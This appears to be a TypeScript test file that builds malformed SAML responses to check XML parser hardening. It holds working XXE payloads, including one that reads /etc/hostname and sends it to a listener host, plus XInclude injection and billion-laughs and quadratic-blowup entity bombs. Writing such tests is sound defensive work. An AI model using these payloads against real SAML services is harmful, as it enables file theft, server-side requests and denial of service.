import { replaced } from './edits'
import { attacker, type Forge, type Kit, tampered, type Variants, victim } from './variant'

/** A document type in front of a good answer, and a reference to what it declares in the NameID or nowhere. */
function declaring(declarations: (kit: Kit) => string, reference = ''): Forge {
  return (kit) => {
    const xml = kit.answer()
    const edited = reference === '' ? xml : replaced(`>${attacker.nameId}<`, `>${attacker.nameId}${reference}<`)(xml)
    return `<!DOCTYPE Response ${declarations(kit)}>${edited}`
  }
}

const internal = (text: string) => () => `[${text}]`

export const documentTypes: Variants = {
  'dtd-empty': declaring(internal('')),
  'dtd-name-alone': declaring(() => ''),
  'dtd-case': (kit) => `<!doctype Response>${kit.answer()}`,
  'dtd-unused-entity': declaring(internal('<!ENTITY e "x">')),
  'dtd-entity-nameid': declaring(internal(`<!ENTITY e "${victim.nameId}">`), '&e;'),
  'dtd-entity-redefines-amp': declaring(internal('<!ENTITY amp "x">'), '&amp;'),
  'dtd-id-attribute': declaring(internal('<!ATTLIST Assertion x ID #IMPLIED>')),
  'dtd-default-attribute': declaring(internal('<!ATTLIST saml:Assertion ID CDATA "_x">')),
  'dtd-external': declaring(({ listener }) => `SYSTEM "${listener}/dtd"`),
  'dtd-public': declaring(({ listener }) => `PUBLIC "-//x//y" "${listener}/dtd"`),
  'dtd-after-root': (kit) => `${kit.answer()}<!DOCTYPE x>`,
  'dtd-inside': tampered(replaced('<saml:Subject>', '<!DOCTYPE x><saml:Subject>')),
  'dtd-notation': declaring(internal('<!NOTATION n SYSTEM "n">')),
}

export const externalEntities: Variants = {
  'xxe-file': declaring(internal('<!ENTITY e SYSTEM "file:///etc/hostname">'), '&e;'),
  'xxe-http': declaring(({ listener }) => `[<!ENTITY e SYSTEM "${listener}/entity">]`, '&e;'),
  'xxe-http-unused': declaring(({ listener }) => `[<!ENTITY e SYSTEM "${listener}/entity">]`),
  'xxe-parameter': declaring(({ listener }) => `[<!ENTITY % p SYSTEM "${listener}/parameter"> %p;]`),
  'xxe-parameter-nested': declaring(
    ({ listener }) =>
      `[<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % p "<!ENTITY e SYSTEM '${listener}/%f;'>"> %p;]`,
    '&e;',
  ),
  'xxe-attribute': (kit) =>
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${kit.listener}/attribute">]>${replaced('Version="2.0"', 'Version="&e;"')(kit.answer())}`,
  'xinclude-signed': (kit) =>
    kit.answer({ assertion: replaced(`>${attacker.nameId}<`, `><xi:include ${xinclude(kit)}/><`) }),
}

function xinclude({ listener }: Kit): string {
  return `xmlns:xi="http://www.w3.org/2001/XInclude" href="${listener}/included" parse="text"`
}

/** What names an address, and is honest: it is taken, and the address is not called. */
export const harmlessAddresses: Variants = {
  'control-schema-location': (kit) =>
    kit.answer({
      assertion: replaced(
        '<saml:Subject>',
        `<saml:Subject xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:x ${kit.listener}/schema">`,
      ),
    }),
}

/** Little text that grows when it is read. */
export const entityBombs: Variants = {
  'billion-laughs': declaring(internal(laughs(10)), '&l9;'),
  'billion-laughs-parameter': declaring(
    () => `[${laughs(10).replaceAll('ENTITY l', 'ENTITY % l').replaceAll('&', '%')}]`,
  ),
  'quadratic-blowup': declaring(internal(`<!ENTITY q "${'q'.repeat(50_000)}">`), '&q;'.repeat(2_000)),
  'entity-loop': declaring(internal('<!ENTITY a "&b;"><!ENTITY b "&a;">'), '&a;'),
}

function laughs(levels: number): string {
  const next = (level: number) => `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`
  return `<!ENTITY l0 "ha">${Array.from({ length: levels - 1 }, (_, index) => next(index + 1)).join('')}`
}
